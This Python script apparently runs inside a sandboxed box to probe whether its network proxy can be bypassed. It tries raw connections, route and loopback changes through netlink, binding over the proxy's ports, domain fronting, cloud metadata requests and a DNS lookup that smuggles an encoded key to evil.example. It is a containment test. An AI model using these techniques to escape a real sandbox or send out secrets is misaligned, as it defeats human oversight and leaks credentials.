"""Ways out of a box's network, without its proxy; run in the box by its own python3.

Prints a JSON object: how each ended, as a status code, a word, or what stood in its way.
"""

import errno
import fcntl
import json
import os
import socket
import ssl
import struct

CA = os.environ["SSL_CERT_FILE"]
API, WEB, WIDE, EVIL = "api.openai.com", "web.example", "data.wide.example", "evil.example"
ANYWHERE, ANYWHERE_V6 = "192.0.2.1", "2001:db8::1"
METADATA = "169.254.169.254"
ATTEMPTS = {}


def attempt(function):
    ATTEMPTS[function.__name__] = function
    return function


# Other ports and protocols.


def connected(address, port):
    socket.create_connection((address, port), timeout=10).close()
    return "ok"


def answered(address, port):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as client:
        client.settimeout(10)
        client.connect((address, port))
        client.send(question(API))
        return "ok" if client.recv(1000) else "nothing"


@attempt
def tcp_to_another_port():
    return connected(ANYWHERE, 8443)


@attempt
def tcp_to_another_port_v6():
    return connected(ANYWHERE_V6, 22)


@attempt
def tcp_to_another_port_of_a_name_that_resolves():
    return connected(API, 8080)


@attempt
def udp_to_a_resolver_of_the_world():
    return answered("8.8.8.8", 53)


@attempt
def udp_to_a_resolver_of_the_world_v6():
    return answered("2001:4860:4860::8888", 53)


@attempt
def udp_to_the_port_of_https():
    return answered(ANYWHERE, 443)


@attempt
def udp_to_the_resolver_of_the_box():
    return answered("127.0.0.1", 53)


# Changing the network.


def netlink(kind, content, flags=0x5):  # NLM_F_REQUEST | NLM_F_ACK
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as kernel:
        kernel.send(struct.pack("=IHHII", 16 + len(content), kind, flags, 1, 0) + content)
        code = -struct.unpack_from("=i", kernel.recv(4096), 16)[0]
    return errno.errorcode[code] if code else "ok"


ROUTE = struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 255, 3, 254, 2, 0) + struct.pack("=HHI", 8, 4, 1)


@attempt
def take_the_route_away():
    return netlink(25, ROUTE)  # RTM_DELROUTE


@attempt
def make_another_route():
    route = struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack("=HHI", 8, 4, 1)
    return netlink(24, route, 0x405)  # RTM_NEWROUTE with NLM_F_CREATE


@attempt
def make_another_address():
    address = struct.pack("=BBBBI", 2, 32, 0, 0, 1) + struct.pack("=HH4s", 8, 2, b"\xc0\0\2\1")
    return netlink(20, address, 0x405)  # RTM_NEWADDR


@attempt
def take_loopback_down():
    with socket.socket() as any_socket:
        fcntl.ioctl(any_socket, 0x8914, struct.pack("16sH14x", b"lo", 0))  # SIOCSIFFLAGS
    return "ok"


# Standing where Moat stands.


def listened(address, port, kind=socket.SOCK_STREAM):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, kind) as server:
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        server.bind((address, port))
        if kind == socket.SOCK_DGRAM:
            return "ok"
        server.listen()
        with socket.create_connection((address, port), timeout=10) as client:
            met, _ = server.accept()
            met.close()
            return "ok" if client.recv(1) == b"" else "?"


@attempt
def stand_at_every_address():
    return listened("0.0.0.0", 443)


@attempt
def stand_at_every_address_v6():
    return listened("::", 443)


@attempt
def stand_at_an_address_of_a_name():
    return listened(socket.gethostbyname(API), 443)


@attempt
def stand_at_loopback():
    return listened("127.0.0.1", 80)


@attempt
def stand_where_the_resolver_is():
    return listened("127.0.0.1", 53, socket.SOCK_DGRAM)


@attempt
def stand_where_the_proxy_is():
    return listened("127.0.0.1", 3128)


@attempt
def stand_around_the_proxy():
    return listened("0.0.0.0", 3128)


@attempt
def stand_around_the_proxy_v6():
    return listened("::", 3128)


@attempt
def serve_at_loopback():
    return listened("127.0.0.1", 3000)


@attempt
def serve_at_loopback_v6():
    return listened("::1", 3000)


@attempt
def serve_at_every_address():
    return listened("0.0.0.0", 8080)


# Names.


def question(name, kind=1, of_class=1):
    labels = b"".join(bytes((len(label),)) + label.encode() for label in name.split("."))
    return struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + struct.pack("!xHH", kind, of_class)


def asked(name, kind=1, of_class=1):
    """The code of the answer, and how many records are in it."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(10)
        client.connect(("127.0.0.1", 53))
        client.send(question(name, kind, of_class))
        answer = client.recv(1000)
    return f"{answer[3] & 15} {struct.unpack_from('!H', answer, 6)[0]}"


@attempt
def resolve_a_name_that_is_allowed():
    return sorted({found[4][0] for found in socket.getaddrinfo(API, 443)})


@attempt
def resolve_another_name():
    return socket.gethostbyname(EVIL)


@attempt
def resolve_a_name_that_tells_something():
    return socket.gethostbyname("c2stcmVhbC1rZXk." + EVIL)


@attempt
def ask_for_an_address():
    return asked(API)


@attempt
def ask_for_a_text_of_another():
    return asked(EVIL, 16)


@attempt
def ask_for_a_text():
    return asked(API, 16)


@attempt
def ask_for_an_https_record():
    return asked(API, 65)


@attempt
def ask_for_whatever_there_is():
    return asked(API, 255)


@attempt
def ask_for_a_whole_zone():
    return asked(API, 252)


@attempt
def ask_whose_address_it_is():
    return asked("1.0.18.198.in-addr.arpa", 12)


@attempt
def ask_in_another_class():
    return asked(API, 16, 3)


# Saying one thing and meaning another.


def get(wire, host, method="GET", target="/"):
    wire.sendall(f"{method} {target} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
    return int(wire.recv(1 << 16).split()[1])


def secure(address, name):
    context = ssl.create_default_context(cafile=CA)
    context.check_hostname = False  # an attacker does not mind
    context.verify_mode = ssl.CERT_NONE
    wire = socket.create_connection((address, 443), timeout=20)
    return context.wrap_socket(wire, server_hostname=name)


def by_tls(address, name, host):
    with secure(address, name) as wire:
        return get(wire, host)


def in_the_clear(address, host, **more):
    with socket.create_connection((address, 80), timeout=20) as wire:
        return get(wire, host, **more)


def addresses(name):
    return [
        socket.getaddrinfo(name, 443, family)[0][4][0]
        for family in (socket.AF_INET, socket.AF_INET6)
    ]


@attempt
def as_it_should_be():
    return [by_tls(address, API, API) for address in addresses(API)]


@attempt
def as_it_should_be_in_the_clear():
    return [in_the_clear(address, WEB) for address in addresses(WEB)]


@attempt
def at_any_address_by_the_name_of_the_api():
    return [by_tls(address, API, API) for address in (ANYWHERE, ANYWHERE_V6)]


@attempt
def the_api_by_another_server_name():
    return by_tls(addresses(API)[0], EVIL, EVIL)


@attempt
def the_api_by_another_server_name_v6():
    return by_tls(addresses(API)[1], EVIL, EVIL)


@attempt
def the_api_by_a_server_name_that_is_allowed():
    socket.gethostbyname(WIDE)
    return by_tls(addresses(API)[0], WIDE, WIDE)


@attempt
def the_api_by_no_server_name():
    return by_tls(addresses(API)[0], None, API)


@attempt
def another_host_behind_the_api():
    return by_tls(addresses(API)[0], API, EVIL)


@attempt
def another_host_behind_the_api_at_any_address():
    return by_tls(ANYWHERE, API, EVIL)


@attempt
def another_host_at_the_address_of_one():
    return [in_the_clear(address, EVIL) for address in addresses(WEB)]


@attempt
def another_host_at_any_address():
    return [in_the_clear(address, EVIL) for address in (ANYWHERE, ANYWHERE_V6)]


@attempt
def another_server_at_any_address():
    return [by_tls(address, EVIL, EVIL) for address in (ANYWHERE, ANYWHERE_V6)]


@attempt
def the_api_in_the_clear():
    return in_the_clear(addresses(API)[0], API)


@attempt
def metadata_by_name():
    return in_the_clear(METADATA, "metadata")


@attempt
def metadata_by_address():
    return in_the_clear(METADATA, METADATA)


@attempt
def metadata_by_tls():
    return by_tls(METADATA, None, METADATA)


@attempt
def metadata_by_the_name_of_another():
    return in_the_clear(METADATA, WEB)


@attempt
def a_tunnel_where_there_is_no_proxy():
    return in_the_clear(ANYWHERE, API + ":443", method="CONNECT", target=API + ":443")


@attempt
def a_proxy_where_there_is_none():
    return in_the_clear(ANYWHERE, WEB, target=f"http://{WEB}/")


found = {}
for name, function in ATTEMPTS.items():
    try:
        found[name] = function()
    except socket.gaierror as error:
        found[name] = "no such name" if error.errno == socket.EAI_NONAME else str(error)
    except ssl.SSLError as error:
        found[name] = error.reason
    except OSError as error:
        found[name] = errno.errorcode.get(error.errno, str(error))
print(json.dumps(found))
